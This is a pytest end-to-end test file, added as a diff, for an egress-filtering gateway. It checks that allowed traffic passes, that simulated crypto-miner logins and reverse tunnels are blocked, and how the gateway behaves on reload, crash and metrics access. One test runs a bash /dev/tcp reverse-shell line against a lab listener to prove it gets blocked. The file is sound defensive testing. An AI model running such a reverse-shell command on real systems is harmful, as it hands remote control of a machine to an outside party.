@@ -1,0 +1,319 @@
+"""The live gateway end to end: real programs in sbx talk to servers in ext through gw,
+where `egress run` enforces a policy. Blocked flows must really fail, allowed ones must
+arrive intact, and the kernel state (rules, connmarks) must be what egress claims.
+"""
+from __future__ import annotations
+
+import hashlib
+import os
+import signal
+import subprocess
+import time
+
+import pytest
+
+from tests.e2e.lab import PY, Gateway, records, start_echo
+
+LAB_RULES = """\
+version: 1
+default_policy: lab
+policies:
+  lab:
+    mode: enforce
+    rules:
+      - name: block-mining
+        action: drop
+        categories: [mining]
+      - name: block-tunnels
+        action: drop
+        categories: [reverse_tunnel, reverse_shell, tunnel]
+%(extra)s    default: allow
+"""
+
+REJECT_7001 = """\
+      - name: reject-7001
+        action: reject
+        ports: [7001]
+"""
+
+
+def write_rules(path, extra: str = "") -> str:
+    path.write_text(LAB_RULES % {"extra": extra})
+    return str(path)
+
+
+@pytest.fixture(scope="module")
+def rules(lab):
+    return write_rules(lab.workdir / "lab.yaml")
+
+
+@pytest.fixture(scope="class")
+def gateway(lab, rules):
+    """One egress daemon shared by the tests of a class (one daemon per namespace at a time)."""
+    gw = Gateway(lab.topo, lab.workdir, rules=[rules], name="shared")
+    yield gw
+    gw.stop()
+
+
+def egress_lines(lab, family: int = 4) -> list[str]:
+    tool = "iptables-save" if family == 4 else "ip6tables-save"
+    return [l for l in lab.topo.run("gw", tool).stdout.splitlines() if "egress" in l or "EGRESS" in l]
+
+
+def chain_counters(lab) -> dict[str, int]:
+    """Packets counted by the fast-path ACCEPT rule and by the NFQUEUE rule (IPv4)."""
+    out = lab.topo.run("gw", "iptables", "-w", "-L", "EGRESS-FWD", "-v", "-x", "-n").stdout
+    counts = {}
+    for line in out.splitlines():
+        words = line.split()
+        if len(words) > 2 and words[2] in ("ACCEPT", "NFQUEUE"):
+            counts[words[2]] = counts.get(words[2], 0) + int(words[0])
+    return counts
+
+
+class TestOneGateway:
+    """Allowed and blocked flows through one daemon running the lab rules."""
+
+    # allowed traffic ------------------------------------------------------------------------
+
+    def test_https_download_by_name_arrives_intact_and_is_logged(self, lab, gateway):
+        blob = os.urandom(3_000_000)
+        www = lab.workdir / "www"
+        www.mkdir(exist_ok=True)
+        (www / "blob").write_bytes(blob)
+        cert, key = lab.cert
+        lab.server("dns", "--host", lab.ext4, "--zone", "files.egress.test=" + lab.ext4)
+        lab.server("https", "--host", lab.ext4, "--port", "443", "--cert", cert, "--key", key, "--root", str(www))
+        lab.topo.set_resolver("sbx", lab.ext4)
+        before = chain_counters(lab)
+        got = lab.sbx("sh", "-c", "curl -sS --max-time 20 --cacert %s https://files.egress.test/blob | sha256sum" % cert)
+        assert got.stdout.split()[0] == hashlib.sha256(blob).hexdigest(), got.stderr
+        after = chain_counters(lab)
+        # The download took the kernel fast path: most of its packets never reached the queue.
+        assert after["ACCEPT"] - before["ACCEPT"] > after["NFQUEUE"] - before["NFQUEUE"]
+        gateway.hup("egress: reloaded")            # nothing changed; it must not disturb anything
+        time.sleep(0.3)
+
+    # blocked traffic really fails ---------------------------------------------------------------
+
+    def test_stratum_miner_never_logs_in(self, lab, gateway):
+        record = lab.sim_pool("stratum", 3333)
+        proc = lab.sbx(PY, "-m", "egress.sim.stratum", "client", "--connect", "%s:3333" % lab.ext4,
+                       "--duration", "4", "--share-interval", "0.2", timeout=20)
+        assert proc.returncode != 0 or '"shares": 0' in proc.stdout
+        received = [r["msg"].get("method") for r in records(record) if r["dir"] == "in"]
+        assert "mining.authorize" not in received and "mining.subscribe" not in received, received
+
+    def test_xmrig_login_on_port_443_never_reaches_the_pool(self, lab, gateway):
+        pool_ip = lab.topo.add_ext_address(1)     # a second outside host, so :443 is free
+        record = lab.sim_pool("xmr", 443, host=pool_ip)
+        proc = lab.sbx(PY, "-m", "egress.sim.xmr", "client", "--connect", "%s:443" % pool_ip,
+                       "--duration", "4", "--share-interval", "0.2", timeout=20)
+        received = [r["msg"].get("method") for r in records(record) if r["dir"] == "in"]
+        assert "login" not in received and "submit" not in received, (received, proc.stdout, proc.stderr)
+
+    def test_reverse_shell_gets_no_command_through(self, lab, gateway):
+        record = lab.server("listen", "--host", lab.ext4, "--port", "4444", "--send", "id\\n", "--idle", "4")
+        lab.sbx("timeout", "6", "bash", "-c", "exec 3<>/dev/tcp/%s/4444; sh <&3 >&3 2>&3" % lab.ext4, timeout=15)
+        time.sleep(0.5)
+        got = "".join(r.get("received", "") for r in records(record) if r["kind"] == "conn")
+        assert "uid=" not in got
+
+def test_sigterm_writes_flow_events_and_removes_rules(lab, rules):
+    gw = Gateway(lab.topo, lab.workdir, rules=[rules], name="sigterm")
+    assert len(egress_lines(lab, 4)) >= 10 and len(egress_lines(lab, 6)) >= 10
+    start_echo(lab.topo, lab.ext4, 7100)
+    assert lab.tcp_exchange(lab.ext4, 7100, b"ping") == "ok:ping"
+    assert gw.stop() == 0
+    assert egress_lines(lab, 4) == [] and egress_lines(lab, 6) == []
+    flows = gw.flows_to(7100)
+    assert len(flows) == 1 and flows[0]["verdict"]["action"] == "allow"
+    assert flows[0]["flow"]["bytes_toserver"] > 0
+
+
+def test_v6_is_queued_and_enforced(lab, tmp_path):
+    rules = write_rules(tmp_path / "v6.yaml", REJECT_7001)
+    gw = Gateway(lab.topo, lab.workdir, rules=[rules], name="v6")
+    try:
+        start_echo(lab.topo, lab.ext6, 7001)
+        start_echo(lab.topo, lab.ext6, 7101)
+        assert lab.tcp_exchange(lab.ext6, 7101, b"six") == "ok:six"
+        assert lab.tcp_exchange(lab.ext6, 7001, b"six") in ("error:ConnectionRefusedError", "error:ConnectionResetError")
+    finally:
+        gw.stop()
+    v6 = [e for e in gw.events() if e["dest_ip"] == lab.ext6]
+    assert {e["dest_port"]: e["verdict"]["action"] for e in v6} == {7101: "allow", 7001: "reject"}
+
+
+def test_ssh_R_with_real_openssh_fails_under_the_default_rules(lab, repo_root, tmp_path):
+    if not os.path.exists("/usr/sbin/sshd") or not os.path.exists("/usr/bin/ssh"):
+        pytest.skip("needs OpenSSH's sshd and ssh")
+    ssh = start_sshd(lab, tmp_path, port=2222)
+    gw = Gateway(lab.topo, lab.workdir, rules=[str(repo_root / "rules" / "default.yaml")], name="ssh")
+    try:
+        started = time.monotonic()
+        rev = lab.sbx("timeout", "10", *ssh[:-1], "-N", "-o", "ExitOnForwardFailure=yes",
+                      "-R", "9999:127.0.0.1:22", ssh[-1], timeout=20)
+        assert rev.returncode not in (0, 124)          # failed, and not by our timeout: rejected
+        assert time.monotonic() - started < 8
+        assert "Accepted publickey" not in (tmp_path / "sshd.log").read_text()
+        listening = lab.topo.run("ext", "ss", "-ltn", check=False).stdout
+        assert ":9999" not in listening
+    finally:
+        gw.stop()
+    ssh_flows = gw.flows_to(2222)
+    assert ssh_flows and all(f["verdict"]["action"] == "reject" for f in ssh_flows)
+    assert all(f["app_proto"] == "ssh" for f in ssh_flows)
+
+
+def start_sshd(lab, tmp_path, port: int) -> list[str]:
+    """A real sshd in ext with a fresh host key and one test key pair; returns the ssh argv."""
+    d = tmp_path
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / "host")], check=True)
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(d / "user")], check=True)
+    (d / "authorized_keys").write_text((d / "user.pub").read_text())
+    os.chmod(d / "authorized_keys", 0o600)
+    (d / "sshd_config").write_text(
+        "Port %d\nListenAddress %s\nHostKey %s\nAuthorizedKeysFile %s\nPasswordAuthentication no\n"
+        "KbdInteractiveAuthentication no\nUsePAM no\nPermitRootLogin prohibit-password\nStrictModes no\n"
+        "AllowTcpForwarding yes\nGatewayPorts no\nPidFile none\n" % (port, lab.ext4, d / "host", d / "authorized_keys"))
+    os.makedirs("/run/sshd", exist_ok=True)
+    lab.topo.popen("ext", ["/usr/sbin/sshd", "-D", "-e", "-f", str(d / "sshd_config")],
+                   stdout=subprocess.DEVNULL, stderr=open(d / "sshd.log", "w"))
+    deadline = time.monotonic() + 5
+    while time.monotonic() < deadline:
+        if lab.topo.run("ext", "ss", "-ltn", check=False).stdout.count(":%d" % port):
+            break
+        time.sleep(0.05)
+    return ["ssh", "-i", str(d / "user"), "-p", str(port), "-o", "StrictHostKeyChecking=no",
+            "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", "-o", "ConnectTimeout=5",
+            "-o", "LogLevel=ERROR", "root@" + lab.ext4]
+
+
+# -- reload, revocation -------------------------------------------------------------------------
+
+def test_sighup_reload_changes_verdict_and_invalid_file_keeps_old_policy(lab, tmp_path):
+    rules = tmp_path / "reload.yaml"
+    write_rules(rules)
+    start_echo(lab.topo, lab.ext4, 7001)
+    gw = Gateway(lab.topo, lab.workdir, rules=[str(rules)], name="reload")
+    try:
+        assert lab.tcp_exchange(lab.ext4, 7001, b"before") == "ok:before"
+        write_rules(rules, REJECT_7001)
+        gw.hup("egress: reloaded")
+        assert lab.tcp_exchange(lab.ext4, 7001, b"after") in ("error:ConnectionRefusedError",
+                                                              "error:ConnectionResetError")
+        rules.write_text("version: 1\npolicies: [this is not a mapping\n")
+        gw.hup("egress: reload failed")
+        failed = [l for l in gw.stderr().splitlines() if "reload failed" in l]
+        assert len(failed) == 1 and "reload.yaml" in failed[0]
+        # Still the previous (valid) policy: 7001 rejected, everything else allowed.
+        assert lab.tcp_exchange(lab.ext4, 7001, b"again") in ("error:ConnectionRefusedError",
+                                                              "error:ConnectionResetError")
+        start_echo(lab.topo, lab.ext4, 7002)
+        assert lab.tcp_exchange(lab.ext4, 7002, b"other") == "ok:other"
+    finally:
+        assert gw.stop() == 0
+
+
+def test_reload_revokes_a_fast_pathed_connection(lab, tmp_path):
+    rules = tmp_path / "revoke.yaml"
+    write_rules(rules)
+    start_echo(lab.topo, lab.ext4, 7003)
+    gw = Gateway(lab.topo, lab.workdir, rules=[str(rules)], name="revoke")
+    client = lab.topo.popen("sbx", [PY, "-c", LONG_CLIENT % (lab.ext4, 7003)], stdin=subprocess.PIPE,
+                            stdout=subprocess.PIPE, text=True)
+    try:
+        # Binary data until every detector has given up and the flow is offloaded.
+        for _ in range(40):
+            assert echo_line(client, 1000) == "ok"
+            if conntrack_marks(lab, 7003) == ["0x9000000"]:
+                break
+        assert conntrack_marks(lab, 7003) == ["0x9000000"]     # the kernel fast path carries it
+        write_rules(rules, "      - name: block-7003\n        action: drop\n        ports: [7003]\n")
+        gw.hup("egress: reloaded")
+        assert "revoked flow" in gw.stderr()
+        assert conntrack_marks(lab, 7003) == ["0xa000000"]
+        assert echo_line(client, 1000) in ("timeout", "TimeoutError")
+    finally:
+        client.kill()
+        gw.stop()
+
+
+LONG_CLIENT = """\
+import os, socket, sys
+s = socket.create_connection((%r, %d), timeout=2)
+for line in sys.stdin:
+    n = int(line)
+    data = os.urandom(n)
+    try:
+        s.sendall(data)
+        got = b""
+        while len(got) < n:
+            chunk = s.recv(n - len(got))
+            if not chunk:
+                break
+            got += chunk
+        print("ok" if got == data else "short", flush=True)
+    except OSError as exc:
+        print(type(exc).__name__, flush=True)
+"""
+
+
+def echo_line(client, n: int) -> str:
+    client.stdin.write("%d\n" % n)
+    client.stdin.flush()
+    return client.stdout.readline().strip()
+
+
+def conntrack_marks(lab, port: int) -> list[str]:
+    out = lab.topo.run("gw", "conntrack", "-L", "-p", "tcp", "--dport", str(port), check=False).stdout
+    marks = []
+    for line in out.splitlines():
+        for word in line.split():
+            if word.startswith("mark="):
+                marks.append(hex(int(word[5:])))
+    return marks
+
+
+# -- crash clean-up, fail-open / fail-closed, metrics ----------------------------------------------
+
+def test_crashed_daemon_fails_closed_and_iptables_remove_cleans_up(lab, rules, tmp_path):
+    start_echo(lab.topo, lab.ext4, 7004)
+    gw = Gateway(lab.topo, lab.workdir, rules=[rules], name="crash")
+    gw.proc.send_signal(signal.SIGKILL)
+    gw.proc.wait(5)
+    assert any("NFQUEUE" in l for l in egress_lines(lab))
+    # Fail-closed (the default): nobody bound to the queue, so new connections go nowhere.
+    assert lab.tcp_exchange(lab.ext4, 7004, b"x", timeout=1.5) == "error:TimeoutError"
+    out = lab.topo.run("gw", PY, "-m", "egress.cli", "iptables", "remove").stdout
+    assert "removed" in out
+    assert egress_lines(lab, 4) == [] and egress_lines(lab, 6) == []
+    assert "no egress rules" in lab.topo.run("gw", PY, "-m", "egress.cli", "iptables", "remove").stdout
+    assert lab.tcp_exchange(lab.ext4, 7004, b"free") == "ok:free"
+
+
+def test_fail_open_daemon_gone_lets_traffic_pass(lab, rules):
+    start_echo(lab.topo, lab.ext4, 7005)
+    gw = Gateway(lab.topo, lab.workdir, rules=[rules], extra=["--fail-open"], name="failopen")
+    try:
+        gw.proc.send_signal(signal.SIGKILL)
+        gw.proc.wait(5)
+        assert any("--queue-bypass" in l for l in egress_lines(lab))
+        assert lab.tcp_exchange(lab.ext4, 7005, b"open") == "ok:open"
+    finally:
+        lab.topo.run("gw", PY, "-m", "egress.cli", "iptables", "remove")
+
+
+def test_metrics_reachable_from_gateway_only(lab):
+    address = "%s:9108" % lab.topo.addr.gw_sbx4
+    gw = Gateway(lab.topo, lab.workdir, extra=["--metrics", address], name="metrics")
+    try:
+        start_echo(lab.topo, lab.ext4, 7006)
+        assert lab.tcp_exchange(lab.ext4, 7006, b"m") == "ok:m"
+        inside = lab.topo.run("gw", "curl", "-s", "--max-time", "3", "http://%s/metrics" % address, check=False)
+        assert "egress_packets_total" in inside.stdout and "egress_decision_seconds_bucket" in inside.stdout
+        outside = lab.sbx("curl", "-s", "--max-time", "2", "http://%s/metrics" % address)
+        assert outside.returncode != 0 and "egress_" not in outside.stdout
+    finally:
+        gw.stop()
